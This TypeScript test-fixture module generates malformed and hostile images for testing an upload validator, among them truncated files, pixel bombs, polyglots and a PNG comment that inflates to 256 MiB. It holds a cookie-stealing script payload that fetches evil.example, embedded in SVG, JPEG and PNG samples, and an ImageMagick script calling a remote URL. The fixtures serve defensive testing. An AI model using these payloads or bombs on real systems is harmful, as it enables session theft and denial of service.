import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { listOf } from "../support/list-of.js";
import { pngChunk, pngOf, pngSignature } from "../support/png.js";
import { drawPicture, pictureAs, withChunk, withComment } from "./sample-pictures.js";

type Make = () => Buffer | Promise<Buffer>;

/**
 * A payload that an attacker might append to a picture; no stored picture may contain it.
 */
export const payload = "<script>fetch('https://evil.example/'+document.cookie)</script>";

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/>${payload}</svg>`;
const small = (format: "jpeg" | "png" | "webp") => pictureAs(format, 64, 40);

/** Pseudo-random bytes, the same in every run. */
export function noise(length: number, seed = 1): Buffer {
  let state = seed;
  return Buffer.from(
    listOf(length, () => {
      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
      return state >>> 24;
    }),
  );
}

const half = (file: Buffer) => file.subarray(0, file.length / 2);

/** A copy with one byte changed. */
function corrupted(file: Buffer, at: number): Buffer {
  const copy = Buffer.from(file);
  copy[at] = (copy[at] ?? 0) ^ 0x5a;
  return copy;
}

/** Files that are not a complete picture in a supported format. */
export const invalidPictures: [string, Make][] = [
  ["an SVG", () => Buffer.from(svg)],
  ["a GIF", () => drawPicture(64, 40).gif().toBuffer()],
  [
    "an ImageMagick vector script",
    () =>
      Buffer.from(
        "push graphic-context\nimage over 0,0 0,0 'https://evil.example/x.png'\npop graphic-context\n",
      ),
  ],
  ["an empty file", () => Buffer.alloc(0)],
  ["the beginning of a PNG followed by an SVG", () => Buffer.concat([pngSignature, Buffer.from(svg)])],
  ["half a JPEG", async () => half(await small("jpeg"))],
  ["half a WebP", async () => half(await small("webp"))],
  [
    "a PNG whose pixels have a wrong checksum",
    async () => corrupted(await small("png"), (await small("png")).length - 14),
  ],
  ["a PNG of width zero", () => pngOf({ width: 0, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(6) })],
  [
    "a PNG with fewer rows than its header claims",
    () => pngOf({ width: 8, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(25) }),
  ],
  [
    "a PNG without pixels",
    () =>
      Buffer.concat([
        pngOf({ width: 8, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(0) }).subarray(0, 33),
        pngChunk("IEND", Buffer.alloc(0)),
      ]),
  ],
];

const bitsOf = (width: number, height: number) =>
  pngOf({ width, height, depth: 1, colours: 0, rows: Buffer.alloc((Math.ceil(width / 8) + 1) * height) });

/** A JPEG whose header claims a wrong size. */
async function jpegClaiming(width: number, height: number, { isProgressive = false } = {}): Promise<Buffer> {
  const file = isProgressive
    ? await drawPicture(64, 40).jpeg({ progressive: true }).toBuffer()
    : Buffer.from(await small("jpeg"));
  const frame = file.indexOf(Buffer.from([0xff, isProgressive ? 0xc2 : 0xc0]));
  file.writeUInt16BE(height, frame + 5);
  file.writeUInt16BE(width, frame + 7);
  return file;
}

/** A WebP whose header claims a wrong size. */
async function webpClaiming(side: number): Promise<Buffer> {
  const file = Buffer.from(await small("webp"));
  const frame = file.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
  file.writeUInt16LE(side, frame + 3);
  file.writeUInt16LE(side, frame + 5);
  return file;
}

/** Small files that decode to more than 50 megapixels. */
export const oversizedPictures: [string, Make][] = [
  ["a PNG of 64 megapixels in 8 KB", () => bitsOf(8000, 8000)],
  [
    "a PNG of 46340 by 46340 pixels without pixel data",
    () => pngOf({ width: 46_340, height: 46_340, depth: 8, colours: 2, rows: Buffer.alloc(0) }),
  ],
  ["a JPEG that claims 65000 by 65000 pixels", () => jpegClaiming(65_000, 65_000)],
  ["a WebP that claims 16383 by 16383 pixels", () => webpClaiming(16_383)],
];

/** A picture with longer lines than any JPEG. */
export const longLines = () => bitsOf(65_536, 10);

/**
 * Pictures of 49 megapixels, by their headers, that would be held in memory as a whole,
 * or nearly so.
 */
export const costlyPictures: [string, Make][] = [
  [
    "an interlaced PNG of 16 bits per value",
    () =>
      pngOf({ width: 7000, height: 7000, depth: 16, colours: 2, isInterlaced: true, rows: Buffer.alloc(0) }),
  ],
  ["a progressive JPEG", () => jpegClaiming(7000, 7000, { isProgressive: true })],
  ["a WebP", () => webpClaiming(7000)],
  [
    "a PNG of 62500 pixels in each line",
    () => pngOf({ width: 62_500, height: 784, depth: 16, colours: 2, rows: Buffer.alloc(0) }),
  ],
];

/** A picture of nine megapixels in a small file. */
export const largePicture = () => bitsOf(3000, 3000);

/** A picture with the maximum number of pixels. */
export const largestPicture = () => bitsOf(10_000, 5000);

/** Valid pictures with other content in the same file, which must not be kept. */
export const polyglots: [string, Make][] = [
  [
    "a JPEG with a ZIP appended",
    async () => Buffer.concat([await small("jpeg"), Buffer.from(`PK\x03\x04${payload}`), noise(500)]),
  ],
  ["a JPEG with a script in a comment", async () => withComment(await small("jpeg"), payload)],
  [
    "a PNG with a script in a text chunk",
    async () => withChunk(await small("png"), "tEXt", `Comment\0${payload}`),
  ],
];

/** A WebP of three frames of red, green and blue. */
export async function animatedWebp(): Promise<Buffer> {
  const frames = Buffer.concat(
    [
      [220, 30, 30],
      [30, 200, 30],
      [30, 30, 220],
    ].map((color) => Buffer.alloc(64 * 40 * 3, Buffer.from(color))),
  );
  const options = { raw: { width: 64, height: 120, channels: 3, pageHeight: 40 } } as const;
  return sharp(frames, options)
    .webp({ loop: 0, delay: [50, 50, 50] })
    .toBuffer();
}

/** A PNG whose compressed comment inflates to 256 MiB. */
export async function pngOfLongText(): Promise<Buffer> {
  const text = deflateSync(Buffer.alloc(256 * 1024 * 1024), { level: 1 });
  return withChunk(await small("png"), "zTXt", Buffer.concat([Buffer.from("Comment\0\0"), text]));
}
